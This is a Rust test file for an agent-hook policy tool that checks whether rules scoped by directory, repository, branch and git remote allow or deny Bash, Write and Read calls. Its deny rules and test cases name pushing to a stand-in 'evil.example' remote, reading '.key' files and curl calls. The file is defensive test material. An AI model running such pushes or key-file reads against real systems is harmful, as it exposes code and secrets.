//! `where`: a hook holds for what happens in a directory, a repository, on a branch, with a remote.

use crate::support::*;

const HOOKS: &str = r#"hooks:
  - { name: in-src, on: PreToolUse, if: Bash(make *), where: { directory: src }, deny: src }
  - { name: in-repo, on: PreToolUse, if: [Bash(touch *), Write], where: { repository: "**/app" }, deny: repo }
  - { name: with-up, on: PreToolUse, if: Bash(git push *), where: { remote: [up, "*evil.example*"] }, deny: up }
  - { name: releases, on: PreToolUse, if: Bash(git commit *), where: { branch: "release/*" }, deny: release }
  - { name: none, on: PreToolUse, if: Bash(git commit *), where: { branch: HEAD }, deny: none }
  - { name: both, on: PreToolUse, if: Bash(git tag *), where: { repository: "**/app", branch: main }, deny: both }
  - { name: reads, on: PreToolUse, if: Read(**/*.key), where: { branch: main }, deny: key }
  - { name: only-there, on: PreToolUse, if: [Bash(ls *), Bash(cat *)], where: { directory: [src, src/**] }, allow: there }
"#;

const CASES: &str = r#"setup: |
  mkdir -p src/deep
  git init -q -b main app
  git -C app remote add origin https://evil.example/x
  git -C app remote add up https://example.com/x
  git init -q -b release/1 rel
  git init -q loose
  git -C loose -c user.name=a -c user.email=b commit -q --allow-empty -m x
  git -C loose checkout -q --detach
cases:
  - { bash: make x, expect: allow }
  - { bash: make x, cwd: src, expect: deny }
  - { bash: make x, cwd: src/deep, expect: deny }
  - { bash: cd src && make x, expect: deny }
  - { bash: make x && cd src, expect: allow }
  - { bash: 'cd "$D" && make x', expect: doubt }
  - { bash: touch x, expect: allow }
  - { bash: touch x, cwd: app, expect: deny }
  - { bash: touch x, cwd: rel, expect: allow }
  - { event: { event: PreToolUse, tool: { name: Write, input: { file_path: app/new/x, content: y } } }, expect: deny }
  - { event: { event: PreToolUse, tool: { name: Write, input: { file_path: rel/x, content: y } } }, expect: allow }
  - { bash: git push up x, cwd: app, expect: deny }
  - { bash: git push, cwd: app, expect: deny, name: origin is an address that is named }
  - { bash: git push https://evil.example/y x, cwd: rel, expect: deny }
  - { bash: git push other x, cwd: app, expect: allow }
  - { bash: git fetch up, cwd: app, expect: allow }
  - { bash: git commit -m x, cwd: rel, expect: deny, outcomes: { releases: deny, none: absent } }
  - { bash: git commit -m x, cwd: app, expect: allow }
  - { bash: git commit -m x, cwd: loose, expect: deny, outcomes: { none: deny, releases: absent } }
  - { bash: git commit -m x, expect: allow, name: no repository }
  - { bash: git tag x, cwd: app, expect: deny }
  - { bash: git tag x, cwd: rel, expect: allow }
  - { bash: cat app/a.key, expect: deny, outcomes: { reads: deny } }
  - { bash: cat rel/a.key, expect: allow, outcomes: { reads: absent } }
  - { bash: ls, cwd: src, expect: allow, outcomes: { only-there: allow } }
  - { bash: ls, expect: allow, outcomes: { only-there: absent } }
  - { bash: ls && cd src/deep && cat x, expect: allow, outcomes: { only-there: absent }, name: all of it has to be there }
  - { bash: ls && cd deep && cat x, cwd: src, expect: allow, outcomes: { only-there: absent }, name: nothing allows a change of the directory }
"#;

/// `act` in `when` is what `if` has hit.
const ACTS: &str = r#"hooks:
  - { name: amend, on: PreToolUse, if: Bash(git commit *), when: "act.branch == 'main' && act.command.contains('--amend')", deny: amend }
  - { name: tmp, on: PreToolUse, if: Bash(rm *), when: "!act.directory.startsWith('/tmp/')", deny: tmp }
  - { name: push, on: PreToolUse, if: Bash(git push *), when: "act.remote == 'up' && act.branch.startsWith('rel')", deny: push }
  - { name: in-none, on: PreToolUse, if: Bash(touch *), when: act.repository == null, deny: none }
  - { name: as-act, on: PreToolUse, if: Bash(curl *), when: "act.command.contains(agent.name)", deny: curl }
  - { name: both, on: PreToolUse, if: Bash(git tag *), where: { branch: "release/*" }, when: "act.repository.endsWith('/rel')", deny: both }
  - { name: only, on: PreToolUse, if: [Bash(ls *), Bash(cat *)], when: "act.directory.endsWith('/src')", allow: there }
"#;

const CASES_OF_ACTS: &str = r#"setup: |
  mkdir -p src
  git init -q -b main app
  git -C app remote add up https://example.com/x
  git init -q -b release/1 rel
cases:
  - { bash: git commit --amend, cwd: app, expect: deny }
  - { bash: git commit -m --x, cwd: app, expect: allow }
  - { bash: git commit --amend, cwd: rel, expect: allow }
  - { bash: git -C app commit -m x && git -C rel commit --amend, expect: allow, name: each act by itself }
  - { bash: git -C rel commit -m x && git -C app commit --amend, expect: deny }
  - { bash: git switch -c fix && git commit --amend, cwd: app, expect: allow }
  - { bash: git switch -c fix; git commit --amend, cwd: app, expect: deny, name: it may not have switched }
  - { bash: 'git switch "$B" && git commit --amend', cwd: rel, expect: doubt }
  - { bash: 'git switch "$B" && git commit -m x', cwd: app, expect: allow, name: the branch doesn't matter }
  - { bash: rm x, cwd: /tmp/y, expect: allow }
  - { bash: cd /tmp/y && rm x, expect: allow }
  - { bash: cd /tmp/y; rm x, cwd: /var, expect: deny }
  - { bash: 'cd "$D"; rm x', cwd: /tmp/y, expect: doubt }
  - { bash: git push up rel/1, cwd: app, expect: deny }
  - { bash: git push up main, cwd: app, expect: allow }
  - { bash: git push origin rel/1, cwd: app, expect: allow }
  - { bash: touch x, expect: deny }
  - { bash: touch x, cwd: app, expect: allow }
  - { event: { event: PreToolUse, agent: { name: wget }, tool: { name: Bash, input: { command: curl wget.example } } }, expect: deny, name: the members of the event count }
  - { event: { event: PreToolUse, act: { command: x }, agent: { name: wget }, tool: { name: Bash, input: { command: curl y } } }, expect: allow, name: no member of the event hides it }
  - { bash: git tag x, cwd: rel, expect: deny }
  - { bash: git tag x, cwd: app, expect: allow }
  - { bash: ls, cwd: src, expect: allow, outcomes: { only: allow } }
  - { bash: ls && cat x, cwd: src, expect: allow, outcomes: { only: allow } }
  - { bash: ls, expect: allow, outcomes: { only: absent } }
"#;

#[test]
fn a_rule_holds_where_it_says() {
    holds(HOOKS, CASES);
}

#[test]
fn a_condition_holds_for_the_act_that_is_hit() {
    holds(ACTS, CASES_OF_ACTS);
    let is_refused = |hook: &str, told: &str| {
        let text = format!("hooks: [{{ name: a, on: PreToolUse, {hook}, deny: no }}]");
        let directory = hooks(&[("guard.yaml", &text)]);
        let ran = in_our_world(hookwire())
            .args(["check", "."])
            .current_dir(directory.path())
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&ran.stdout);
        assert!(!ran.status.success() && said.contains(told), "{said}");
    };
    is_refused("when: act.branch == 'main'", "there is no `if`");
    is_refused(
        "if: Bash(git *), when: act.brnch == 'main'",
        "did you mean `branch`?",
    );
}

fn holds(definitions: &str, cases: &str) {
    if !is_there("git") {
        return;
    }
    let directory = hooks(&[("guard.yaml", definitions), ("guard.test.yaml", cases)]);
    let ran = in_our_world(hookwire())
        .args(["test", "guard.test.yaml"])
        .current_dir(directory.path())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&ran.stdout);
    assert!(ran.status.success(), "{said}");
}

/// What a call connects to is looked up anew where it depends on more than its text.
#[test]
fn a_remote_that_changes_is_another_host() {
    if !is_there("git") {
        return;
    }
    let rule = "hooks: [{ name: a, on: PreToolUse, if: Connect(evil.example), deny: no }]";
    let directory = hooks(&[("hooks/guard.yaml", rule), ("work/x", "")]);
    let work = directory.path().join("work");
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git")
            .args(args)
            .current_dir(&work)
            .status();
        assert!(status.unwrap().success());
    };
    git(&["init", "-q"]);
    git(&["remote", "add", "origin", "https://good.example/x"]);
    let mut command = in_our_world(hookwire());
    command
        .args(["serve", "--isolated", "--hooks"])
        .arg(directory.path().join("hooks"));
    let mut host = TestHost::start(command.arg("--root").arg(&work));
    for _ in 0..3 {
        assert_eq!(brief(&host.bash("git push")), "allow");
    }
    git(&["remote", "set-url", "origin", "https://evil.example/x"]);
    assert!(brief(&host.bash("git push")).starts_with("deny by a"));
    host.close();
}
